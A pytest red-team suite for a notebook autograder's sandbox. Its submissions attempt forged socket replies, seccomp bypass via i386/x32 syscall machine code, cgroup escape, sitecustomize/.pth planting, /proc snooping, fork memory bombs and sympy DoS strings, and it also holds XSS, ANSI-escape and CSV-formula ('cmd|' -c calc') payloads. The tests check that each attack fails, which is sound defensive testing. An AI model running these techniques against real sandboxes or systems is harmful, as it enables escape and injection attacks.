"""Red-team suite, second round: attacks test_grader_redteam.py does not cover.

Hostile notebooks are graded in ONE batch with honest ones, on ONE sandbox slot (``jobs=1``), so
that submissions follow each other in file-name order: a "plant" submission leaves everything it
can behind (deep trees in /tmp and /dev/shm, System V IPC, a kernel keyring entry, a POSIX
message queue, module state) and "spy" submissions graded after it earn q1 only if they find
any of it. Other attacks: replies forged on the job socket with hostile values (dtype tricks,
bad shapes, NaN tokens, huge ints, duplicate keys, deep nesting, a 4 GiB length header), values
of numpy/str subclasses, a forward-equations answer built to hang sympy on the trusted side,
an exception message with a lone surrogate, ANSI escapes and HTML, reads of the zygote's /proc
files and of inherited descriptors, writes into the bind-mounted Python environment. Then:
file names that inject formulas into grades.csv or are not UTF-8, forged ``.grader`` records
and a notebook changed after grading (resume).

Each attack asserts no undeserved point (the attack code computes the right q1 only when the
attack worked), no leak, and no harm to the batch (honest notebooks keep full marks, every
notebook gets a record, the outputs are written).
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import grader_fixture as F
import pytest

from course.grader import slot as slot_mod
from course.grader.limits import Limits
from course.grader.original import Original
from course.grader.protections import protections
from course.grader.run import grade_folder
from course.planning.config import load_course
from course.planning.layout import Cell
from course.planning.plan import DrawnQuestion, PlannedQuestion, exercise_variant

WIN = F.CORRECT_Q1


def _if(cond: str) -> str:
    """``if cond:`` followed by the honest q1 code (earned only when the attack worked)."""
    return f"if {cond}:\n" + "\n".join("    " + line for line in WIN.splitlines()) + "\n"


# ----------------------------------------------------------------------------- fixture course
def load(course, assignment: str, student: str) -> Original:
    """grader_fixture's original notebook plus q3, a forward-equations (sympy) question."""
    orig = F.load(course, assignment, student)
    cells = orig.cells + [Cell("q3-answer", "code", "answer", "q3 = ...\n", "q3")]
    planned = PlannedQuestion(3, "computed", "forward-equations", "forward-equations", 2.0,
                              {"fr": "équations", "en": "equations"}, "forward-equations")
    q3 = DrawnQuestion(planned, student, variant=exercise_variant(course, "forward-equations", student))
    return Original(cells, [*orig.questions, q3], orig.cases)


# ----------------------------------------------------------------------------- attacks
# A reply forged on the job socket, found by walking up to the child's serving loop (``rid`` is
# the id of the request being served, ``fd`` the job socket). After q1-answer come 4 more cells
# (q1-check, q2-answer, q2-check, q3-answer): their replies are forged "ok", then the reply to
# ``get q1`` carries PAYLOAD, a value the child's own encoder would never produce.
FORGE = (
    "import sys, os, json, struct\n"
    "f = sys._getframe()\n"
    "while f is not None and 'rid' not in f.f_locals:\n"
    "    f = f.f_back\n"
    "rid, fd = f.f_locals['rid'], f.f_locals['fd']\n"
    "def send(text):\n"
    "    b = text.encode()\n"
    "    os.write(fd, struct.pack('>I', len(b)) + b)\n"
    "for i in range(rid, rid + 5):\n"
    "    send(json.dumps({'id': i, 'ok': True}))\n"
    "send('{\"id\": %d, \"ok\": true, \"value\": ' % (rid + 5) + PAYLOAD + '}')\n"
)
ND8 = "AAAAAAAAAAA="  # 8 zero bytes


def _nd(part: str, dtype: str, shape: str, data: str = ND8, extra: str = "") -> str:
    return '{"' + part + '": {"$nd": "' + data + '", "dtype": "' + dtype + '", "shape": ' + shape + extra + "}}"


FORGED = {
    "forge-void-dtype": _nd("total", "|V8", "[1]"),
    "forge-unicode-dtype": _nd("total", "<U2", "[1]"),
    "forge-object-dtype": _nd("total", "|O", "[1]"),
    "forge-big-endian": _nd("total", ">f8", "[1]"),
    "forge-complex": _nd("total", "<c16", "[1]", data="AAAAAAAAAAAAAAAAAAAAAA=="),
    "forge-negative-shape": _nd("weights", "<f8", "[-1]"),
    "forge-shape-bytes-mismatch": _nd("weights", "<f8", "[2]"),
    "forge-zero-size-huge-dims": '{"total": 0, "weights": {"$nd": "", "dtype": "<f8", '
                                 '"shape": [0, 4000000, 4000000, 4000000, 4000000]}, "biases": []}',
    "forge-masked-extra-keys": _nd("weights", "<f8", "[1]", extra=', "mask": [true]'),
    "forge-bad-base64": '{"weights": {"$nd": "!!!!", "dtype": "<f8", "shape": [1]}}',
    "forge-nan-infinity": '{"total": NaN, "weights": [Infinity, 1e999], "biases": [-Infinity]}',
    "forge-int-too-long": '{"total": 1' + "0" * 5000 + "}",
    "forge-huge-int": '{"total": 1' + "0" * 400 + ', "weights": [1e308, 1e308], "biases": [1' + "0" * 400 + "]}",
    "forge-duplicate-keys": '{"total": 0, "total": 1, "weights": [], "weights": [0]}',
    "forge-deep-nesting": "[" * 5000 + "]" * 5000,
}
ATTACKS: dict[str, dict] = {name: {"q1": f"PAYLOAD = {payload!r}\n" + FORGE} for name, payload in FORGED.items()}
# an exec reply whose "magics" count is text (HTML and a lone surrogate) for the feedback
ATTACKS["forge-magics-text"] = {"q1": FORGE.split("for i in")[0]
                                + "send(json.dumps({'id': rid, 'ok': True, 'magics': '\\ud800<img src=x onerror=alert(1)>'}))\n"}
ATTACKS["forge-length-bomb"] = {"q1": FORGE.split("for i in")[0] + "os.write(fd, b'\\xff\\xff\\xff\\xff' + b'{' * 1000)\n"}

PLANT = r"""
import os, sys, builtins, ctypes, platform, numpy, json
T = os.environ.get('TMPDIR', '/tmp')  # the sandbox's writable scratch (/tmp, or /scratch)
builtins.POISON = numpy.POISON = json.POISON = 1
sys.modules['evil'] = sys
os.environ['POISON'] = '1'
open(T + '/work/evilmod.py', 'w').write('X = 1\n')
name = 'd' * 250
for root in (T, '/dev/shm'):
    os.chdir(root)
    for i in range(20):  # deeper than PATH_MAX
        os.mkdir(name)
        os.chdir(name)
    open('planted', 'w').write('from the planter')
os.chdir(T)
for i in range(1100):  # deeper than the recursion limit
    os.mkdir('r')
    os.chdir('r')
os.chdir(T + '/work')
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
nr = {'x86_64': 248, 'aarch64': 217}.get(platform.machine())  # add_key
if nr:
    libc.syscall(nr, b'user', b'planted', b'x', 1, ctypes.c_int(-4))
libc.shmget(0x1234, 4096, 0o1666)
libc.msgget(0x1235, 0o1666)
libc.semget(0x1236, 1, 0o1666)
rt = ctypes.CDLL('librt.so.1', use_errno=True)
rt.mq_open(b'/planted', os.O_CREAT | os.O_RDWR, 0o600, None)
"""
SPY = r"""
import os, sys, builtins, ctypes, platform, numpy, json
T = os.environ.get('TMPDIR', '/tmp')  # the sandbox's writable scratch (/tmp, or /scratch)
seen = []
if sorted(os.listdir(T)) != ['student-output.txt', 'work'] or os.listdir('/dev/shm') or os.listdir('.'):
    seen.append('files')
if hasattr(builtins, 'POISON') or hasattr(numpy, 'POISON') or hasattr(json, 'POISON') \
        or 'evil' in sys.modules or 'POISON' in os.environ:
    seen.append('memory')
for kind in ('shm', 'msg', 'sem'):
    try:
        if open(f'/proc/sysvipc/{kind}').read().splitlines()[1:]:
            seen.append(kind)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
nr = {'x86_64': 249, 'aarch64': 218}.get(platform.machine())  # request_key
if nr and libc.syscall(nr, b'user', b'planted', None, ctypes.c_int(0)) >= 0:
    seen.append('keyring')
rt = ctypes.CDLL('librt.so.1', use_errno=True)
if rt.mq_open(b'/planted', os.O_RDWR) >= 0:
    seen.append('mqueue')
""" + _if("seen")

ATTACKS.update({
    # --- state left for the next submission (graded in this order on the one slot)
    "a-plant": {"q1": PLANT},
    "b-spy": {"q1": SPY},
    # --- values of subclasses and odd numpy types, returned normally
    "masked-array": {"q1": "import numpy as np\nq1 = {'total': np.ma.masked_array([5], mask=[True]), "
                           "'weights': np.ma.masked_array([1, 2]), 'biases': np.ma.masked_array([1])}"},
    "structured-array": {"q1": "import numpy as np\nq1 = {'total': 0, 'weights': np.zeros(3, dtype=[('a', '<f8')]), "
                               "'biases': np.rec.array([(1,)], dtype=[('a', '<i8')])}"},
    "matrix-subclass": {"q1": "import numpy as np\nq1 = {'total': 0, 'weights': np.matrix([[1, 2]]), 'biases': np.matrix([[1]])}"},
    "numpy-scalar-subclass": {"q1": "import numpy as np\nclass S(np.float64):\n    def __eq__(self, o): return True\n"
                                    "q1 = {'total': S(0), 'weights': [S(0)], 'biases': [S(0)]}"},
    "complex-and-strings": {"q1": "import numpy as np\nq1 = {'total': '153', 'weights': np.zeros(3, complex), 'biases': ['1']}"},
    "str-subclass-symbolic": {"q3": "class S(str):\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\n"
                                    "q3 = {k: S('X') for k in ('Z1', 'A1', 'Z2', 'A2', 'Z3', 'A3', 'Yhat')}"},
    "huge-int-part": {"q1": WIN + "q1['total'] = 10 ** 400\n", "expect": (2.0, 0.0, 0.0)},
    # --- the trusted side's sympy (forward-equations answers are parsed there)
    "sympy-bombs": {"q3": "q3 = {'Z1': '9**9**9', 'A1': '[1]*10**9', 'Z2': '(W1+b1)**40', 'A2': '(X,)*10**9',\n"
                          "      'Z3': '*'.join(['(W1+X)'] * 40), 'A3': 'X.n(10**6)', 'Yhat': 'X+' * 50000 + 'X'}"},
    # --- student text in the outputs
    "hostile-message": {"q1": "raise ValueError('\\ud800 <img src=x onerror=alert(1)> \\x1b]52;c;ZWNobw==\\x07 "
                              "\\x1b[2J \\u202egnp.exe \\r## Total: 9 / 9')"},
    # --- the zygote's /proc files, inherited descriptors, the environment
    "proc-of-parents": {"q1": "import os\nok = False\nfor pid in (os.getppid(), 1):\n"
                              "    for name in ('environ', 'mem', 'maps', 'fd', 'auxv', 'stack'):\n"
                              "        p = f'/proc/{pid}/{name}'\n"
                              "        try:\n"
                              "            ok = ok or bool(os.listdir(p) if name == 'fd' else open(p, 'rb').read(16))\n"
                              "        except OSError:\n"
                              "            pass\n" + _if("ok")},
    "inherited-fds": {"q1": "import os\nopen_fds = []\nfor fd in range(4, 1024):\n    try:\n        os.fstat(fd)\n"
                            "        open_fds.append(fd)\n    except OSError:\n        pass\n"
                            "extra = set(os.environ) - {'PATH', 'LANG', 'LC_ALL', 'HOME', 'OMP_NUM_THREADS', "
                            "'OPENBLAS_NUM_THREADS', 'MKL_NUM_THREADS', 'MPLBACKEND', 'PYTHONDONTWRITEBYTECODE', "
                            "'CUDA_VISIBLE_DEVICES', 'PWD', 'TMPDIR'}\n" + _if("open_fds or extra")},
    "write-python-env": {"q1": "import os, sys, sysconfig, numpy\nok = False\n"
                               "for d in {sysconfig.get_paths()['purelib'], sysconfig.get_paths()['stdlib'], "
                               "os.path.dirname(numpy.__file__), os.path.dirname(sys.executable), '/opt/grader', "
                               "sys.prefix, sys.base_prefix}:\n"
                               "    for name in ('sitecustomize.py', 'usercustomize.py', 'evil.pth', 'child.py'):\n"
                               "        try:\n"
                               "            open(os.path.join(d, name), 'a').close(); ok = True\n"
                               "        except OSError:\n"
                               "            pass\n" + _if("ok")},
    "symlinks-in-tmp": {"q1": "import os\nT = os.environ.get('TMPDIR', '/tmp')\nfor src, dst in [('/opt/grader/child.py', T + '/student-output.txt.x'), "
                              "('/proc/1/root', T + '/work/root'), ('/dev/shm', T + '/shm')]:\n"
                              "    try:\n        os.symlink(src, dst)\n    except OSError:\n        pass\n"
                              "os.link(T + '/student-output.txt', T + '/work/hard')\nq1 = 0"},
    "z-spy-late": {"q1": SPY},
})

# --- nested user namespaces (kernel attack surface): each earns q1 only if the kernel let it
# create one (or, for setns, looked at the request at all); the seccomp filter answers EPERM
USERNS = r"""
import ctypes, mmap, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NEWUSER, SIGCHLD = 0x10000000, 17
X86 = platform.machine() == 'x86_64'
def machine_code(hex_bytes):  # run raw x86-64 instructions, return rax
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(bytes.fromhex(hex_bytes))
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
"""
CLONE_NEWUSER = (USERNS + "r = libc.syscall(56 if X86 else 220, NEWUSER | SIGCHLD, 0, 0, 0, 0)\n"
                 "if r == 0:\n    os._exit(0)  # the child, in a new user namespace\n"
                 "if r > 0:\n    os.waitpid(r, 0)\n")
# fork, threads, subprocess, multiprocessing: what honest code (and a DataLoader) does must work
ORDINARY = r"""
import concurrent.futures, multiprocessing, os, subprocess, threading
ok = []
t = threading.Thread(target=ok.append, args=('thread',)); t.start(); t.join()
with concurrent.futures.ThreadPoolExecutor(3) as ex:
    ok += ['pool'] if list(ex.map(abs, [-1, -2, -3])) == [1, 2, 3] else []
pid = os.fork()
if pid == 0:
    os._exit(7)
ok += ['fork'] if os.waitpid(pid, 0)[1] >> 8 == 7 else []
ok += ['subprocess'] if subprocess.run(['true']).returncode == 0 else []
with multiprocessing.get_context('fork').Pool(2) as p:
    ok += ['mp'] if p.map(abs, [-4, -5]) == [4, 5] else []
""" + _if("len(ok) == 5")
ATTACKS.update({
    "userns-unshare": {"q1": USERNS + _if("libc.unshare(NEWUSER) == 0")},
    "userns-clone": {"q1": CLONE_NEWUSER + _if("r > 0")},
    "userns-clone3": {"q1": USERNS + "r = libc.syscall(435, 0, 0)\nerr = ctypes.get_errno()\n"
                            + _if("r != -1 or err != 38")},  # anything but ENOSYS: reached clone3
    "userns-setns": {"q1": USERNS + "fd = os.open('/proc/self/ns/user', os.O_RDONLY)\n"
                           "r = libc.setns(fd, 0)\nerr = ctypes.get_errno()\n"
                           + _if("r == 0 or err != 1")},  # EINVAL: the kernel looked at it
    # unshare(CLONE_NEWUSER) through the i386 calling convention (int 0x80, call 310): other
    # numbers, which a filter checking x86_64 numbers only would let through
    "userns-i386-abi": {"q1": USERNS + _if("X86 and machine_code('b836010000' 'bb00000010' 'cd80' 'c3') == 0")},
    # ... and through the x32 numbers (bit 30 set: 0x40000000 + 272)
    "userns-x32-abi": {"q1": USERNS + _if("X86 and machine_code('48c7c010010040' '48c7c700000010' '0f05' 'c3') == 0")},
    "ordinary-processes": {"q1": ORDINARY, "expect": (3.0, 0.0, 0.0)},
    # --- leaving the submission's cgroup (its memory and process limits): move into another
    # one, or mount a cgroup file system of one's own
    "cgroup-escape": {"q1": "import ctypes, glob, os\nT = os.environ.get('TMPDIR', '/tmp')\nmoved = False\n"
                            "for p in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True) "
                            "+ ['/sys/fs/cgroup/cgroup.procs', '/proc/1/root/sys/fs/cgroup/cgroup.procs']:\n"
                            "    try:\n        open(p, 'w').write(str(os.getpid())); moved = True\n"
                            "    except OSError:\n        pass\n"
                            "os.makedirs(T + '/cg', exist_ok=True)\n"
                            "libc = ctypes.CDLL(None, use_errno=True)\n"
                            "mounted = any(libc.mount(b'none', (T + '/cg').encode(), fs, 0, None) == 0 "
                            "for fs in (b'cgroup2', b'cgroup'))\n" + _if("moved or mounted")},
})

HONEST = ["honest-a", "honest-b", "honest-c"]
BAD_NAMES = {"csv-formula": "=HYPERLINK(\"evil\")+cmd|' -c calc'!A0.ipynb"}


def _q3_answer(course, student: str) -> str:
    return f"q3 = {exercise_variant(course, 'forward-equations', student).answer!r}\n"


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam2")
    names = sorted(ATTACKS) + HONEST
    # file names sort like the names: plant < spy < ... < late spy
    names = ["a-plant", "b-spy"] + [n for n in names if n not in ("a-plant", "b-spy", "z-spy-late")] + ["z-spy-late"]
    students = [f"s{i:02d}" for i in range(len(names))]
    cp = F.make_course(root, students)
    course = load_course(cp)
    sub = root / "hw" / "submissions"
    who: dict[str, str] = {}
    for i, name in enumerate(names):
        s = students[i]
        who[name] = s
        spec = ATTACKS.get(name, {})
        honest = name in HONEST
        q3 = spec.get("q3", _q3_answer(course, s) if honest else "pass\n")
        nb = F.notebook(course, s, q1=spec.get("q1", F.CORRECT_Q1 if honest else "q1 = ...\n"),
                        q2=F.CORRECT_Q2 if honest else None, extra=[{"id": "q3-answer", "source": q3}])
        F.write(sub, f"hwt-{s}.ipynb", nb)
    for fname in BAD_NAMES.values():
        F.write(sub, fname, b"{}")
    (sub / "hwt-\udcff.ipynb").write_bytes(b"[]")  # a file name that is not UTF-8
    t0 = time.monotonic()
    summary = grade_folder(root / "hw", course_path=cp, jobs=1, loader="test_grader_redteam2:load",
                           limits=Limits(timeout_s=1.5, cpu_s=20, memory_mb=1024, nproc=24, tmpfs_mb=16))
    seconds = time.monotonic() - t0
    rows = {r["file"]: r for r in csv.DictReader(open(root / "hw" / "grades.csv", encoding="utf-8"))}
    records = {p.stem: json.loads(p.read_text()) for p in (root / "hw" / ".grader").glob("*.json")}
    return {"root": root, "who": who, "rows": rows, "records": records, "summary": summary,
            "sub": sub, "cp": cp, "names": names, "seconds": seconds}


def _row(batch, name):
    return batch["rows"][f"hwt-{batch['who'][name]}.ipynb"]


# ----------------------------------------------------------------------------- batch tests
@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_earns_nothing_undeserved(batch, name):
    row = _row(batch, name)
    assert row["status"] == "graded", row  # never "internal grader error"
    want = ATTACKS[name].get("expect", (0.0, 0.0, 0.0))
    assert (float(row["q1"]), float(row["q2"]), float(row["q3"])) == want, row


@pytest.mark.parametrize("name", HONEST)
def test_honest_notebooks_unharmed(batch, name):
    row = _row(batch, name)
    assert (row["status"], float(row["total"]), float(row["percent"])) == ("graded", 9.0, 100.0), row


def test_batch_is_complete_and_the_machine_clean(batch):
    assert batch["summary"]["notebooks"] == len(ATTACKS) + len(HONEST) + len(BAD_NAMES) + 1
    assert batch["seconds"] < 80  # the sympy bombs did not hang the trusted side
    # (leftover processes are test_grader_redteam.py's subject; the slot uids may be in use by
    # another grading run on this machine, so they are not checked here)
    assert not any(p.name in ("planted", "evilmod.py") for p in batch["root"].rglob("*"))


def test_forged_replies_were_rejected_by_the_decoder(batch):
    for name in FORGED:
        rec = batch["records"][f"hwt-{batch['who'][name]}"]
        q1 = next(q for q in rec["questions"] if q["id"] == "q1")
        assert q1["points"] == 0.0
        assert all(not it["ok"] for it in q1["items"])


def test_hostile_message_is_neutralised_in_every_output(batch):
    s = batch["who"]["hostile-message"]
    hw = batch["root"] / "hw"
    for path in (hw / "feedback" / f"{s}.md", hw / "feedback" / f"{s}.html", hw / "results" / f"{s}.json",
                 hw / ".grader" / f"hwt-{s}.json"):
        text = path.read_text(encoding="utf-8")
        if path.suffix in (".md", ".html"):
            assert "ValueError" in text
        for bad in ("<img", "\x1b", "\u202e", "\ud800", "\\ud800", "\\u001b", "\\u202e"):
            assert bad not in text, (path.name, bad)
    md = (hw / "feedback" / f"{s}.md").read_text(encoding="utf-8")
    assert "\n## Total" not in md and "\r" not in md


def test_forged_magics_count_is_not_shown(batch):
    s = batch["who"]["forge-magics-text"]
    md = (batch["root"] / "hw" / "feedback" / f"{s}.md").read_text(encoding="utf-8")
    assert "<img" not in md and "onerror" not in md


def test_file_names_cannot_inject_formulas_or_break_outputs(batch):
    hw = batch["root"] / "hw"
    lines = (hw / "grades.csv").read_text(encoding="utf-8").splitlines()
    rows = list(csv.reader(lines))
    cells = [row[rows[0].index("file")] for row in rows[1:]]
    assert not any(c[:1] in "=+-@" for c in cells if c)
    assert "'" + BAD_NAMES["csv-formula"] in cells
    assert any(c == "hwt-?.ipynb" for c in cells)
    assert (hw / "report.html").is_file()


def test_symbolic_bombs_return_quickly_in_isolation():
    """The same strings straight into SymbolicCheck (in a subprocess, so a regression fails
    with a timeout instead of hanging the suite)."""
    code = ("from course.generator.checks import SymbolicCheck\n"
            "c = SymbolicCheck(matrices=('X', 'W1', 'b1'), functions=('sigmoid',))\n"
            "bombs = ['9**9**9', '9^9^9', '[1]*10**9', '(X,)*10**9', '(W1+b1)**40', '(W1+b1)**8**8',\n"
            "         '*'.join(['(W1+X)'] * 40), 'sigmoid((W1+b1+X)**8)', 'X.n(10**6)', 'X//W1',\n"
            "         'sigmoid(*X)', '(' * 300 + 'X' + ')' * 300, '-' * 499 + 'X', 'X+' * 50000 + 'X']\n"
            "assert not any(c.accepts(b, 'W1*X + b1') for b in bombs)\n"
            "assert c.accepts('b1 + W1*X', 'W1*X + b1') and not c.accepts('X*W1 + b1', 'W1*X + b1')\n"
            "print('ok')\n")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert r.stdout.strip() == "ok", r.stderr[-2000:]


def test_resume_trusts_no_planted_record_and_regrades_changed_notebooks(batch):
    hw = batch["root"] / "hw"
    store = hw / ".grader"
    forged = batch["who"]["sympy-bombs"]
    listed = batch["who"]["masked-array"]
    deep = batch["who"]["matrix-subclass"]
    changed = batch["who"]["honest-c"]
    # 1. a record forged with full marks and the sha256 of the student's own notebook
    rec = json.loads((store / f"hwt-{forged}.json").read_text())
    for q in rec["questions"]:
        q["points"] = q["max_points"]
        for it in q["items"]:
            it["ok"], it["points"] = True, it["max"]
    (store / f"hwt-{forged}.json").write_text(json.dumps(rec))
    # 2. records that are not even dicts, or nested too deeply for json
    (store / f"hwt-{listed}.json").write_text("[1, 2]")
    (store / f"hwt-{deep}.json").write_text("[" * 100_000 + "]" * 100_000)
    # 3. a notebook changed after grading (now forgets the biases)
    course = load_course(batch["cp"])
    F.write(batch["sub"], f"hwt-{changed}.ipynb",
            F.notebook(course, changed, q1=F.FORGOT_BIASES_Q1,
                       extra=[{"id": "q3-answer", "source": _q3_answer(course, changed)}]))
    honest = batch["who"]["honest-a"]
    stamp = (store / f"hwt-{honest}.json").stat().st_mtime_ns
    grade_folder(hw, course_path=batch["cp"], jobs=1, loader="test_grader_redteam2:load",
                 limits=Limits(timeout_s=1.5, cpu_s=20, memory_mb=1024, nproc=24, tmpfs_mb=16))
    rows = {r["file"]: r for r in csv.DictReader(open(hw / "grades.csv", encoding="utf-8"))}
    assert float(rows[f"hwt-{forged}.ipynb"]["total"]) == 0.0  # regraded, not resumed
    assert rows[f"hwt-{listed}.ipynb"]["status"] == rows[f"hwt-{deep}.ipynb"]["status"] == "graded"
    assert float(rows[f"hwt-{changed}.ipynb"]["q1"]) == 2.0  # the new content was graded
    assert float(rows[f"hwt-{honest}.ipynb"]["total"]) == 9.0
    assert (store / f"hwt-{honest}.json").stat().st_mtime_ns == stamp  # genuine records resume
    assert "mac" in json.loads((store / f"hwt-{forged}.json").read_text())


def test_suite_covers_new_ground():
    import test_grader_redteam as first

    assert not set(ATTACKS) & set(first.ATTACKS)
    assert len(ATTACKS) >= 30
    assert Path(__file__).name == "test_grader_redteam2.py"


# ----------------------------------------------------------------------------- memory per submission
# 8 children of 256 MiB each (every page written) under --memory 1024: RLIMIT_AS allows each
# one, so without a cgroup per submission they take 2 GiB of the host together. The attack
# earns q1 only if every child held its memory; its q2 is honest (the attack may cost q1 only).
FORK_MEMORY = r"""
import os, time
kids = []
for i in range(8):
    pid = os.fork()
    if pid == 0:
        try:
            block = b'x' * (256 * 1024 * 1024)
            time.sleep(1.0)
            os._exit(0)
        finally:
            os._exit(1)
    kids.append(pid)
held = all(os.waitpid(k, 0)[1] == 0 for k in kids)
""" + _if("held")


class SandboxMemory(threading.Thread):
    """Samples, every ``every_s`` seconds, the summed PSS (MiB) of this test's sandbox
    processes: descendants of this process whose uid is a sandbox uid (the zygote, the job
    child and what it forked). ``peak_mib`` is the largest sum seen."""

    def __init__(self, every_s: float = 0.02):
        super().__init__(daemon=True)
        self.every_s = every_s
        self.peak_mib = 0.0
        self.done = threading.Event()

    @staticmethod
    def _status(pid: str) -> tuple[int, int] | None:
        try:
            with open(f"/proc/{pid}/status") as f:
                fields = dict(line.split(":", 1) for line in f if ":" in line)
            return int(fields["PPid"]), int(fields["Uid"].split()[0])
        except (OSError, KeyError, ValueError):
            return None

    def sample(self) -> float:
        procs = {}
        for name in os.listdir("/proc"):
            if name.isdigit() and (st := self._status(name)) is not None:
                procs[int(name)] = st
        mine, frontier = set(), {os.getpid()}
        while frontier:
            frontier = {p for p, (pp, _) in procs.items() if pp in frontier} - mine
            mine |= frontier
        total = 0
        for p in mine:
            if procs[p][1] >= slot_mod.DEFAULT_UID_BASE:
                try:
                    with open(f"/proc/{p}/smaps_rollup") as f:
                        total += next(int(ln.split()[1]) for ln in f if ln.startswith("Pss:"))
                except (OSError, StopIteration, ValueError):
                    pass
        return total / 1024

    def run(self) -> None:
        while not self.done.is_set():
            self.peak_mib = max(self.peak_mib, self.sample())
            time.sleep(self.every_s)


@pytest.mark.skipif(not protections().uid_drop or not protections().cgroup,
                    reason="needs a cgroup per submission and a sandbox uid (root, cgroup v1/v2)")
def test_forked_children_share_one_memory_limit(tmp_path):
    cp = F.make_course(tmp_path, ["s1", "s2"])
    course = load_course(cp)
    sub = tmp_path / "hw" / "submissions"
    F.write(sub, "hwt-s1.ipynb", F.notebook(course, "s1", q1=FORK_MEMORY,
                                             extra=[{"id": "q3-answer", "source": "pass\n"}]))
    F.write(sub, "hwt-s2.ipynb", F.notebook(course, "s2", extra=[{"id": "q3-answer",
                                                                  "source": _q3_answer(course, "s2")}]))
    watch = SandboxMemory()
    watch.start()
    try:
        grade_folder(tmp_path / "hw", course_path=cp, jobs=1, loader="test_grader_redteam2:load",
                     limits=Limits(timeout_s=20.0, memory_mb=1024, nproc=24))
    finally:
        watch.done.set()
        watch.join()
    rows = {r["student"]: r for r in csv.DictReader(open(tmp_path / "hw" / "grades.csv"))}
    bomb = json.loads((tmp_path / "hw" / ".grader" / "hwt-s1.json").read_text())
    # no undeserved point, and only the attacking question lost: q2 is graded normally
    assert (float(rows["s1"]["q1"]), float(rows["s1"]["q2"])) == (0.0, 4.0), rows["s1"]
    # the next submission is graded normally
    assert (rows["s2"]["status"], float(rows["s2"]["total"])) == ("graded", 9.0), rows["s2"]
    # the host saw at most the limit (plus the zygote and page-sharing slack), not 8 x 256 MiB
    assert watch.peak_mib < 1024 + 128, watch.peak_mib
    assert bomb["oom_kills"] >= 1 and bomb["memory_peak_mb"] <= 1024, bomb
